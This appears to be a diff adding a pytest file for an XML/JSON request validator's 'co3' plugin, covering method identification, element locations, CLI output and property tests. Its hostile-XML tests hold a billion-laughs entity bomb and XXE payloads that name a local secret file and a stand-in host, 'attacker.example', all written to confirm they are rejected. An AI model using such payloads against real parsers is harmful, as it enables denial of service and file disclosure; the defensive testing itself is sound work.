@@ -1,0 +1,306 @@
+"""co3: what the case files cannot express.
+
+Hostile XML (entity expansion, external entities, deep nesting) answered with 2 quickly
+and without expansion; documents that name their own method (``identify``) and the CLI
+that relies on it; positions of XML elements; the plugin URLs of ``check_request``; and
+property tests that XML and JSON bodies of the same command give the same findings.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+import tracemalloc
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+import clearance
+from clearance.cli import main
+from clearance.engine import get_api
+from clearance.validators.co3 import ENDPOINTS, _document
+
+API = get_api("co3")
+EXAMPLES = Path(__file__).resolve().parent.parent / "examples" / "co3"
+KEYS = "<api_key>k</api_key><session_key>s</session_key>"
+LOL = "".join(
+    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
+)  # 10**9 "lol"s when expanded
+BILLION_LAUGHS = (
+    f'<?xml version="1.0"?><!DOCTYPE command [<!ENTITY lol0 "lol">{LOL}]>'
+    f"<command><getContact>{KEYS}<contact_id>&lol9;</contact_id></getContact></command>"
+)
+
+
+def _codes(report: clearance.Report) -> list[str]:
+    return [f"{f.code} {f.pointer}" for f in report.findings]
+
+
+# -- hostile XML --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("form", [str, bytes])
+def test_billion_laughs_is_code_2_fast_and_unexpanded(form: type) -> None:
+    payload = BILLION_LAUGHS if form is str else BILLION_LAUGHS.encode()
+    tracemalloc.start()
+    started = time.perf_counter()
+    report = clearance.check("co3", "getContact", payload)
+    elapsed = time.perf_counter() - started
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert _codes(report) == ["2 "]
+    assert elapsed < 0.2
+    assert peak < 2_000_000  # a billion "lol"s would be gigabytes
+    assert b"lol" not in report.response()[2]
+
+
+def test_external_entity_is_never_read(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
+    for system in (secret.as_uri(), "http://attacker.example/x.dtd"):
+        doc = (
+            f'<?xml version="1.0"?><!DOCTYPE command [<!ENTITY xxe SYSTEM "{system}">]>'
+            f"<command><getContact>{KEYS}<contact_id>&xxe;</contact_id></getContact></command>"
+        )
+        started = time.perf_counter()
+        report = clearance.check("co3", "getContact", doc)
+        assert time.perf_counter() - started < 0.2
+        assert _codes(report) == ["2 "]
+        assert b"TOP-SECRET" not in report.response()[2]
+
+
+@pytest.mark.parametrize(
+    "doc",
+    [
+        '<!DOCTYPE command SYSTEM "http://attacker.example/x.dtd"><command/>',
+        '<!DOCTYPE command [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><command/>',
+        "<command><getContact>" + "<x>" * 50_000 + "</x>" * 50_000 + "</getContact></command>",
+        "<command>" + "<a>" * 1000,
+        '<?xml version="1.0" encoding="no-such-codec"?><command/>',
+        "<command><getContact>&amp;&#0;</getContact></command>",
+        "\ufeff<command><getContacts/></command>",
+        "<a/><b/>",
+    ],
+)
+def test_hostile_xml_gives_findings_never_a_traceback(doc: str) -> None:
+    for payload in (doc, doc.encode("utf-8")):
+        report = clearance.check("co3", "getContact", payload)
+        assert report.findings
+        assert report.form == "xml"
+        status, _, body = report.response()
+        assert status == 400
+        assert body.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n<response>')
+
+
+# -- the method named in the body ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
+        (b"<command><setInvoice/></command>", "setInvoice"),
+        (b'<?xml version="1.0"?>\n<command>\n  <getProduct/>\n</command>', "getProduct"),
+        (b'{"command": {"getInvoices": {}}}', "getInvoices"),
+        (b"<command><getContacs/></command>", "authenticate"),  # unknown method: fallback
+        (b"<command>", "authenticate"),  # malformed XML: still co3's
+        (BILLION_LAUGHS.encode(), "authenticate"),
+        (b'{"command": "getContact"}', "authenticate"),
+        (b'{"method": "POST", "url": "https://co3app.com/api/crm"}', None),  # a request file
+        (b'{"line_item_name": "Tee"}', None),
+        (b"", None),
+        (b"   ", None),
+        (b"[1, 2]", None),
+    ],
+)
+def test_identify(raw: bytes, expected: str | None) -> None:
+    assert API.identify(raw) == expected
+
+
+def test_body_naming_another_method_is_invalid_command() -> None:
+    """Documented decision: the endpoint asked for and the body's method must agree."""
+    body = f"<command><getInvoice>{KEYS}<invoice_id>76</invoice_id></getInvoice></command>"
+    report = clearance.check("co3", "getContact", body)
+    assert _codes(report) == ["3 /command/getInvoice"]
+    assert clearance.check("co3", "getInvoice", body).ok
+
+
+def test_form_follows_the_request() -> None:
+    doc = {"command": {"getContacts": {"api_key": "k"}}}
+    assert clearance.check("co3", "getContacts", doc).form == "json"
+    assert clearance.check("co3", "getContacts", json.dumps(doc)).form == "json"
+    assert clearance.check("co3", "getContacts", b" <command/>").form == "xml"
+    assert clearance.check("co3", "getContacts", b"").form == "xml"
+    assert clearance.check("co3", "getContacts", "nonsense").form == "xml"
+
+
+def test_messages_are_completed_with_the_field() -> None:
+    doc = {"command": {"setProduct": {"api_key": "k", "session_key": "s", "discount3": 101}}}
+    [finding] = clearance.check("co3", "setProduct", doc).findings
+    assert finding.message == "The following field must be minimum 0 and maximum 100: discount3"
+    assert finding.rule.message == "The following field must be minimum 0 and maximum 100:"
+
+
+# -- check_request: plugin URLs ------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "body", "endpoint", "expect"),
+    [
+        ("https://co3app.com/api/crm", f"<command><getContacts>{KEYS}</getContacts></command>",
+         "getContacts", []),
+        ("https://co3app.com/api/crm/", {"command": {"getHistoryTypes": {"api_key": "k",
+         "session_key": "s"}}}, "getHistoryTypes", []),
+        ("https://co3app.com/api/authenticate",
+         ("<command><authenticate><api_key>k</api_key><username>u</username>"
+          "<password>5f4dcc3b5aa765d61d8327deb882cf99</password></authenticate></command>"),
+         "authenticate", []),
+        ("https://co3app.com/api/product", f"<command><getProduct>{KEYS}</getProduct></command>",
+         "getProduct", ["4 /command/getProduct/filter"]),
+        ("https://co3app.com/api/finance", f"<command><getProduct>{KEYS}</getProduct></command>",
+         "getProduct", ["3 None"]),
+        ("http://co3app.com/api/finance", f"<command><getProduct>{KEYS}</getProduct></command>",
+         "getProduct", ["11 None", "3 None"]),
+        ("https://co3app.com/api/finance", "<command><getFoo/></command>", "getInvoices",
+         ["3 /command/getFoo"]),
+        ("https://co3app.com/api/product", None, "getProduct", ["1 "]),
+        ("https://co3app.com/api/crm", "<command", "getContact", ["2 "]),
+    ],
+)  # fmt: skip
+def test_check_request_finds_the_method_in_the_body(
+    url: str, body: Any, endpoint: str, expect: list[str]
+) -> None:
+    report = clearance.check_request("co3", "POST", url, body=body)
+    assert report.endpoint == endpoint
+    assert _codes(report) == expect
+
+
+def test_check_request_refuses_urls_of_no_plugin() -> None:
+    with pytest.raises(clearance.UnknownEndpointError):
+        clearance.check_request("co3", "POST", "https://co3app.com/api/invoices", body="")
+
+
+# -- positions and the command line --------------------------------------------------
+
+
+def test_locate_elements() -> None:
+    text = (
+        '<?xml version="1.0"?>\n'
+        "<command>\n"
+        "  <setProduct>\n"
+        "    <discount1>5</discount1><discount1>500</discount1>\n"
+        "    <collective_product><product><id>1</id></product></collective_product>\n"
+        "  </setProduct>\n"
+        "</command>\n"
+    )
+    where = API.locate(
+        text,
+        [
+            "/command/setProduct/discount1/1",
+            "/command/setProduct/discount1",
+            "/command/setProduct/collective_product/product/id",
+            "/command/setProduct/api_key",
+            "/command",
+            "",
+        ],
+    )
+    assert where == {
+        "/command/setProduct/discount1/1": (4, 29),
+        "/command/setProduct/discount1": (4, 5),
+        "/command/setProduct/collective_product/product/id": (5, 34),
+        "/command/setProduct/api_key": (3, 3),
+        "/command": (2, 1),
+        "": (2, 1),
+    }
+
+
+def test_locate_points_at_the_syntax_error_and_the_doctype() -> None:
+    assert API.locate("<command>\n  <a></b>\n</command>", [""]) == {"": (2, 8)}
+    assert API.locate(BILLION_LAUGHS, [""]) == {"": (1, 22)}
+
+
+def test_locate_json_bodies() -> None:
+    text = '{"command": {"getContact": {\n  "contact_id": "x"}}}'
+    assert API.locate(text, ["/command/getContact/contact_id"]) == {
+        "/command/getContact/contact_id": (2, 17)
+    }
+
+
+def test_cli_places_xml_files_by_themselves(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["check", str(EXAMPLES / "contact-get.xml")]) == 0
+    capsys.readouterr()
+    assert main(["check", "--format", "json", str(EXAMPLES / "invoice-set-bad.xml")]) == 1
+    items = json.loads(capsys.readouterr().out)
+    assert [(i["code"], i["line"], i["column"], i["endpoint"]) for i in items] == [
+        ("302", 6, 9, "setInvoice"),
+        ("303", 7, 9, "setInvoice"),
+        ("21", 9, 9, "setInvoice"),
+        ("306", 12, 9, "setInvoice"),
+    ]
+
+
+def test_cli_answers_hostile_files_with_code_2(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    bomb = tmp_path / "bomb.xml"
+    bomb.write_text(BILLION_LAUGHS, encoding="utf-8")
+    assert main(["check", str(bomb)]) == 1
+    assert f"{bomb}:1:22: co3 2 XML syntax error" in capsys.readouterr().out
+
+
+def test_examples_are_placeable(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["check", str(EXAMPLES)]) == 1
+    out = capsys.readouterr().out
+    assert "contact-set-request-bad.json:11:26: co3 22 Invalid e-mail address" in out
+    assert "Found 5 findings in 2 files." in out
+
+
+# -- properties ----------------------------------------------------------------------
+
+names = st.sampled_from(
+    ["api_key", "session_key", "contact_id", "id", "action", "discount1", "takein_quantity",
+     "takein_product_type", "takein_start_serial_number", "collective_product", "crdr",
+     "method", "currency", "fx_rate", "language", "issue_date", "payment_date", "date_from",
+     "contact_email", "contact_vat", "contact_firm", "item"]
+)  # fmt: skip
+values = st.text(
+    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="<&>]"), max_size=12
+) | st.sampled_from(["0", "1", "3", "-1", "2024-03-10", "100", "EUR", "hu_HU", " 7 "])
+trees = st.recursive(values, lambda inner: st.dictionaries(names, inner, max_size=4), max_leaves=12)
+
+
+def _xml(name: str, value: Any) -> str:
+    if isinstance(value, dict):
+        return f"<{name}>{''.join(_xml(k, v) for k, v in value.items())}</{name}>"
+    return f"<{name}>{value}</{name}>"
+
+
+@pytest.mark.parametrize("endpoint", [ep.id for ep in ENDPOINTS])
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(parameters=st.dictionaries(names, trees, max_size=8))
+def test_xml_and_json_bodies_give_the_same_findings(
+    endpoint: str, parameters: dict[str, Any]
+) -> None:
+    as_json = clearance.check("co3", endpoint, {"command": {endpoint: parameters}})
+    as_xml = clearance.check("co3", endpoint, _xml("command", {endpoint: parameters}))
+    assert _codes(as_xml) == _codes(as_json)
+    for report in (as_xml, as_json):
+        if not report.ok:
+            status, _, body = report.response()
+            assert status == 400
+            assert body
+
+
+@settings(max_examples=200, deadline=None)
+@given(raw=st.text(max_size=80).map(lambda s: "<" + s))
+def test_any_xml_ish_text_gives_a_report(raw: str) -> None:
+    report = clearance.check("co3", "setProduct", raw)
+    assert report.form == "xml"
+    if not report.ok:
+        assert report.response()[2].startswith(b"<?xml")
+    assert set(API.locate(raw, [f.pointer or "" for f in report.findings])) <= {
+        f.pointer or "" for f in report.findings
+    }
+    assert _document.notation(raw) == "xml"
